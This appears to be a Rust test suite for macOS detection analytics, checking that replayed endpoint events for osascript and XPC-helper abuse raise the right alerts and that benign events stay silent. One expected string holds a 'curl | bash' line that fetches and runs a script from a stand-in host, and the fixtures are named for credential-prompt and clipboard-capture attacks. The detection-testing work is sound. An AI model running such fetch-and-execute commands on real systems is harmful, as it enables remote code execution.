//! AN1359 and AN0948 on macOS process events alone, as Elastic Endpoint (ECS) and eslogger send them: each
//! scenario file of `tests/data/analytics/macos-ecs/` (README there: built by hand in the documented Elastic
//! Endpoint layout) is decoded by `sensor ingest --strict` and replayed through the shipped analytics. Each
//! positive gives exactly one alert from the expected branch, whose reason names the parent and the process it
//! ran; each benign file stays silent; each branch's setting can switch that branch off.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn data(rel: &str) -> PathBuf {
    tests::workspace_root()
        .join("tests/data/analytics/macos-ecs")
        .join(rel)
}

fn scratch(name: &str) -> PathBuf {
    tests::scratch(&format!("analytics-macos-{name}"))
}

/// `sensor ingest --strict --format F` then `sensor replay --analytics` (with `config`, daemon-config TOML).
fn run(format: &str, input: &Path, config: Option<&str>) -> Vec<Value> {
    let name = input.file_stem().unwrap().to_str().unwrap();
    let dir = scratch(name);
    let out = Command::new(tests::sensor_bin())
        .args(["ingest", "--strict", "--format", format, "--input"])
        .arg(input)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "ingest {}: {}",
        input.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    let events = dir.join("events.ndjson");
    std::fs::write(&events, &out.stdout).unwrap();
    let mut cmd = Command::new(tests::sensor_bin());
    cmd.args(["replay", "--analytics", "--input"]).arg(&events);
    if let Some(cfg) = config {
        let p = dir.join("config.toml");
        std::fs::write(&p, cfg).unwrap();
        cmd.arg("--config").arg(p);
    }
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "replay {}: {}",
        input.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Exactly one alert, from `rule` and its `branch`, naming `parent` and `child` in its reason; returns it.
fn one<'a>(alerts: &'a [Value], rule: &str, branch: &str, parent: &str, child: &str) -> &'a Value {
    assert_eq!(alerts.len(), 1, "expected one alert: {alerts:#?}");
    let a = &alerts[0];
    assert_eq!(a["rule_id"], rule, "{a:#?}");
    let reason = a["reason"].as_str().unwrap();
    assert!(reason.starts_with(&format!("[{branch}] ")), "{reason}");
    assert!(
        reason.contains(parent),
        "reason names the parent {parent}: {reason}"
    );
    assert!(
        reason.contains(child),
        "reason names the process {child}: {reason}"
    );
    // The evidence is the process event itself, original record included, with its parent.
    let ev = &a["evidence"][0];
    assert!(ev["event"]["original"].is_string(), "{ev}");
    assert_eq!(ev["process"]["parent"]["executable"], parent, "{ev}");
    a
}

const OSA: &str = "/usr/bin/osascript";

#[test]
fn an1359_osascript_abuse_from_process_events() {
    let cases = [
        (
            "an1359-privileged-do-shell-script.ndjson",
            "privileged-apple-event",
            "/Users/Shared/.local/updater",
        ),
        (
            "an1359-fake-appstore-password-dialog.ndjson",
            "credential-prompt",
            "/bin/bash",
        ),
        (
            "an1359-electron-jxa-stager.ndjson",
            "network-script-load",
            "/Applications/Meeting Notes.app/Contents/Frameworks/Meeting Notes Helper (Renderer).app/Contents/MacOS/Meeting Notes Helper (Renderer)",
        ),
        (
            "an1359-electron-jxa-script-file.ndjson",
            "unexpected-parent",
            "/Applications/Slack.app/Contents/MacOS/Slack",
        ),
        ("an1359-clipboard-capture.ndjson", "clipboard-capture", "/bin/sh"),
    ];
    for (file, branch, parent) in cases {
        let alerts = run("ecs", &data(file), None);
        let a = one(&alerts, "AN1359", branch, parent, OSA);
        assert!(
            a["reason"].as_str().unwrap().contains("process chain: "),
            "{a}"
        );
        assert_eq!(a["attack"]["analytic"], "AN1359");
        assert_eq!(a["attack"]["strategy"], "DET0493");
        println!("{file}: {}", a["reason"]);
    }
}

#[test]
fn an1359_benign_osascript_is_silent() {
    let alerts = run("ecs", &data("an1359-benign-osascript.ndjson"), None);
    assert!(alerts.is_empty(), "{alerts:#?}");
    // Control: the Jamf-run password prompt in that file is silent only because its parent is allowed.
    let cfg = "[analytics.AN1359.settings]\nAllowedScriptParents = []\n";
    let alerts = run("ecs", &data("an1359-benign-osascript.ndjson"), Some(cfg));
    one(
        &alerts,
        "AN1359",
        "credential-prompt",
        "/usr/local/jamf/bin/jamf",
        OSA,
    );
}

#[test]
fn an1359_each_branch_is_a_setting() {
    for (file, setting) in [
        (
            "an1359-privileged-do-shell-script.ndjson",
            "PrivilegedScriptPatterns",
        ),
        (
            "an1359-fake-appstore-password-dialog.ndjson",
            "CredentialPromptPatterns",
        ),
        ("an1359-electron-jxa-stager.ndjson", "NetworkScriptPatterns"),
        ("an1359-clipboard-capture.ndjson", "ClipboardAccessPatterns"),
        (
            "an1359-electron-jxa-script-file.ndjson",
            "UnexpectedScriptParents",
        ),
    ] {
        // Emptying the branch's list silences the branch; the stager then falls to the next branch that
        // matches (its parent is an Electron helper), so empty that one too.
        let cfg = format!(
            "[analytics.AN1359.settings]\n{setting} = []\n{}",
            if setting == "NetworkScriptPatterns" {
                "UnexpectedScriptParents = []\n"
            } else {
                ""
            }
        );
        let alerts = run("ecs", &data(file), Some(&cfg));
        assert!(
            alerts.is_empty(),
            "{file} with {setting} empty: {alerts:#?}"
        );
    }
    // And the stager with only its network branch off is still caught, by its Electron parent.
    let cfg = "[analytics.AN1359.settings]\nNetworkScriptPatterns = []\n";
    let alerts = run("ecs", &data("an1359-electron-jxa-stager.ndjson"), Some(cfg));
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(alerts[0]["reason"]
        .as_str()
        .unwrap()
        .starts_with("[unexpected-parent]"));
}

#[test]
fn an1359_eslogger_parent_from_lineage() {
    // eslogger names the parent by pid only; the analytic's lineage fills it from the earlier bash exec.
    let alerts = run(
        "eslogger",
        &data("an1359-eslogger-credential-prompt.json"),
        None,
    );
    let a = one(&alerts, "AN1359", "credential-prompt", "/bin/bash", OSA);
    // The parent's own command line comes from its exec too: the reason shows the chain.
    assert!(
        a["reason"].as_str().unwrap().contains(
            "/bin/bash (pid 6400: /bin/bash /tmp/.i.sh) -> /usr/bin/osascript (pid 6401: "
        ),
        "{a}"
    );
}

#[test]
fn an0948_xpc_helpers_from_process_events() {
    let runner = "/System/Library/Frameworks/Automator.framework/Versions/A/XPCServices/com.apple.automator.xpc.runner.xpc/Contents/MacOS/com.apple.automator.xpc.runner";
    let alerts = run(
        "ecs",
        &data("an0948-automator-runner-curl-bash.ndjson"),
        None,
    );
    let a = one(
        &alerts,
        "AN0948",
        "workflow-runner-download",
        runner,
        "/bin/bash",
    );
    assert!(a["reason"].as_str().unwrap().contains("curl -fsSL"), "{a}");
    assert_eq!(a["severity"], "high");

    let xpc = "/Applications/ScreenPal.app/Contents/XPCServices/com.screenpal.capturehelper.xpc/Contents/MacOS/com.screenpal.capturehelper";
    let alerts = run("ecs", &data("an0948-xpc-service-shell.ndjson"), None);
    one(&alerts, "AN0948", "helper-exec", xpc, "/bin/sh");

    let alerts = run("ecs", &data("an0948-privileged-helper-python.ndjson"), None);
    one(
        &alerts,
        "AN0948",
        "helper-exec",
        "/Library/PrivilegedHelperTools/com.vpnclient.helper",
        "/usr/bin/python3",
    );

    // One alert for the copy and the shell it starts; unsigned, so UnsignedBinaryAlertLevel applies.
    let alerts = run("ecs", &data("an0948-rogue-xpcproxy.ndjson"), None);
    let a = one(
        &alerts,
        "AN0948",
        "rogue-xpcproxy",
        "/sbin/launchd",
        "/Users/Shared/.cache/xpcproxy",
    );
    assert_eq!(a["severity"], "critical", "{a}");
}

#[test]
fn an0948_launchd_jobs_and_apple_xpc_services_are_silent() {
    let alerts = run(
        "ecs",
        &data("an0948-benign-launchd-and-apple-xpc.ndjson"),
        None,
    );
    assert!(alerts.is_empty(), "{alerts:#?}");
    // Control: PackageKit's script service is silent only because Apple's locations are allowed helpers.
    let cfg = "[analytics.AN0948.settings]\nAllowedXPCHelpers = []\n";
    let alerts = run(
        "ecs",
        &data("an0948-benign-launchd-and-apple-xpc.ndjson"),
        Some(cfg),
    );
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(alerts[0]["reason"]
        .as_str()
        .unwrap()
        .contains("package_script_service"));
}

#[test]
fn an0948_each_branch_is_a_setting() {
    for (file, cfg) in [
        (
            "an0948-automator-runner-curl-bash.ndjson",
            "WorkflowRunners = []",
        ),
        (
            "an0948-automator-runner-curl-bash.ndjson",
            "RunnerDownloadPatterns = []",
        ),
        ("an0948-xpc-service-shell.ndjson", "XPCServicePaths = []"),
        (
            "an0948-xpc-service-shell.ndjson",
            "AllowedXPCHelpers = [\"/Applications/ScreenPal.app/*\"]",
        ),
        (
            "an0948-privileged-helper-python.ndjson",
            "UnexpectedHelperChildren = [\"sh\"]",
        ),
        (
            "an0948-rogue-xpcproxy.ndjson",
            "XPCProxyPaths = [\"/usr/libexec/xpcproxy\", \"/Users/Shared/.cache/*\"]",
        ),
    ] {
        let alerts = run(
            "ecs",
            &data(file),
            Some(&format!("[analytics.AN0948.settings]\n{cfg}\n")),
        );
        assert!(alerts.is_empty(), "{file} with {cfg}: {alerts:#?}");
    }
}

#[test]
fn an0948_eslogger_parent_from_lineage() {
    // An XPC service started through /usr/libexec/xpcproxy runs /bin/sh: one alert. cron, also started
    // through xpcproxy, running a shell: nothing.
    let xpc = "/Applications/ScreenPal.app/Contents/XPCServices/com.screenpal.capturehelper.xpc/Contents/MacOS/com.screenpal.capturehelper";
    let alerts = run(
        "eslogger",
        &data("an0948-eslogger-xpc-service-shell.json"),
        None,
    );
    one(&alerts, "AN0948", "helper-exec", xpc, "/bin/sh");
}

#[test]
fn coverage_reports_the_unified_log_branches_missing_from_process_events() {
    let attack = tests::shared_dir().join("attack/enterprise-attack-18.1-detection.json");
    let report = |sources: &str| {
        let out = Command::new(tests::sensor_bin())
            .args(["coverage", "--sources", sources, "--attack"])
            .arg(&attack)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    // The lines of one analytic's block in the report.
    let block = |text: &str, id: &str| -> Vec<String> {
        text.lines()
            .skip_while(|l| !l.trim_start().starts_with(id))
            .skip(1)
            .take_while(|l| l.starts_with("      "))
            .map(str::to_string)
            .collect()
    };
    let ecs = report("ecs");
    for id in ["AN1359", "AN0948"] {
        let lines = block(&ecs, id);
        let mach = lines.iter().find(|l| l.contains("DC0035")).unwrap();
        assert!(
            mach.contains("NOT provided"),
            "{id} with ecs only: {lines:#?}"
        );
    }
    let exec = block(&ecs, "AN0948");
    assert!(
        exec.iter()
            .any(|l| l.contains("DC0032") && l.contains("provided by ecs")),
        "{exec:#?}"
    );
    let script = block(&ecs, "AN1359");
    assert!(
        script
            .iter()
            .any(|l| l.contains("DC0029") && l.contains("provided by ecs")),
        "{script:#?}"
    );
    let both = report("ecs,unifiedlog");
    let lines = block(&both, "AN1359");
    assert!(
        lines
            .iter()
            .any(|l| l.contains("DC0035") && l.contains("provided by unifiedlog")),
        "{lines:#?}"
    );
}

#[test]
fn reasons_show_the_parent_command_line() {
    // The fake dialog's parent is the shell a `curl | bash` one-liner started: the reason says so.
    let alerts = run(
        "ecs",
        &data("an1359-fake-appstore-password-dialog.ndjson"),
        None,
    );
    let reason = alerts[0]["reason"].as_str().unwrap();
    assert!(
        reason.contains(
            "/bin/bash (pid 4200: /bin/bash -c curl -fsSL https://cdn.example.net/i.sh | bash) -> /usr/bin/osascript (pid 4201: osascript -e display dialog"
        ),
        "{reason}"
    );
}
